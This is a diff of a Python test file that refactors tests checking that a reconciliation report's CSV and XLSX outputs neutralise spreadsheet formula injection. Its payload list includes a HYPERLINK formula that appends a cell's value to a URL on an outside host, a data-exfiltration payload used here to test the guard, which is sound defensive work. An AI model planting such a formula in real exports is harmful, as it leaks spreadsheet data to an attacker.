@@ -16,6 +16,7 @@ from include.reconciliation.config import PROJECT_ROOT
 from include.reconciliation.report import workbook
 from include.reconciliation.steps import write_discrepancy_report as step
 from include.reconciliation.steps.write_discrepancy_report import write_discrepancy_report
+from tests.report.hand_made_run import HandMadeRun
 
 PAYLOADS = (
     '=HYPERLINK("http://198.51.100.1/?"&A1,"click")',
@@ -57,19 +58,29 @@ def guarded(text: str) -> str:
     return f"'{text}" if text.startswith(TRIGGERS) else text
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_no_text_of_a_csv_file_is_taken_for_a_formula(a_run, payload: str) -> None:
-    a_run.a_discrepancy(**dict.fromkeys(DISCREPANCY_TEXTS, payload), delta_minor=-500)
-    a_run.a_pending_item(**dict.fromkeys(PENDING_TEXTS, payload), amount_minor=-500)
+def a_run_of_payloads(run: HandMadeRun) -> HandMadeRun:
+    """One discrepancy and one pending item per payload, in every text column; -5.00 EUR each."""
+    for number, payload in enumerate(PAYLOADS):
+        texts = dict.fromkeys(DISCREPANCY_TEXTS, payload)
+        run.a_discrepancy(number, **texts, delta_minor=-500)
+        run.a_pending_item(**dict.fromkeys(PENDING_TEXTS, payload), amount_minor=-500)
+    return run
 
-    folder = write_discrepancy_report(a_run.write())
 
-    (discrepancy,) = rows_of(folder, "discrepancies.csv")
-    (pending,) = rows_of(folder, "pending.csv")
-    assert {guarded(payload)} == {discrepancy[name] for name in DISCREPANCY_TEXTS}
-    assert {guarded(payload)} == {pending[PENDING_NAMES.get(name, name)] for name in PENDING_TEXTS}
-    assert ("-500", "-5.00") == (discrepancy["delta_minor"], discrepancy["delta_major"])
-    assert ("-500", "-5.00") == (pending["amount_minor"], pending["amount_major"])
+def test_no_text_of_a_csv_file_is_taken_for_a_formula(a_run) -> None:
+    folder = write_discrepancy_report(a_run_of_payloads(a_run).write())
+
+    discrepancies = rows_of(folder, "discrepancies.csv")
+    pending = rows_of(folder, "pending.csv")
+    expected = sorted(guarded(payload) for payload in PAYLOADS)
+    for name in DISCREPANCY_TEXTS:
+        assert expected == sorted(row[name] for row in discrepancies)
+    for name in PENDING_TEXTS:
+        assert expected == sorted(row[PENDING_NAMES.get(name, name)] for row in pending)
+    assert {("-500", "-5.00")} == {
+        (row["delta_minor"], row["delta_major"]) for row in discrepancies
+    }
+    assert {("-500", "-5.00")} == {(row["amount_minor"], row["amount_major"]) for row in pending}
 
 
 def test_every_text_column_of_the_csv_files_is_guarded() -> None:
@@ -90,17 +101,16 @@ def test_every_text_column_of_the_csv_files_is_guarded() -> None:
     assert own == open_columns
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_no_cell_of_the_workbook_is_a_formula_or_a_link(a_run, parts_of, payload: str) -> None:
-    a_run.a_discrepancy(**dict.fromkeys(DISCREPANCY_TEXTS, payload))
-    a_run.a_pending_item(**dict.fromkeys(PENDING_TEXTS, payload))
-    a_run.header["verdict_reasons"] = [payload]
+def test_no_cell_of_the_workbook_is_a_formula_or_a_link(a_run, parts_of) -> None:
+    a_run_of_payloads(a_run).header["verdict_reasons"] = list(PAYLOADS)
     a_run.write()
-    a_run.refuse_a_statement(statement_key=payload, quarantine_reason=payload, reason_code=payload)
+    link = PAYLOADS[0]
+    a_run.refuse_a_statement(statement_key=link, quarantine_reason=link, reason_code=link)
 
     folder = write_discrepancy_report(a_run.attempt_id)
 
     parts = parts_of(Path(folder) / "discrepancies.xlsx")
+    assert b"=HYPERLINK(" in parts["xl/worksheets/sheet1.xml"]
     sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
     assert 3 == len([sheet for sheet in sheets if b"<sheetData>" in sheet])
     for sheet in sheets:
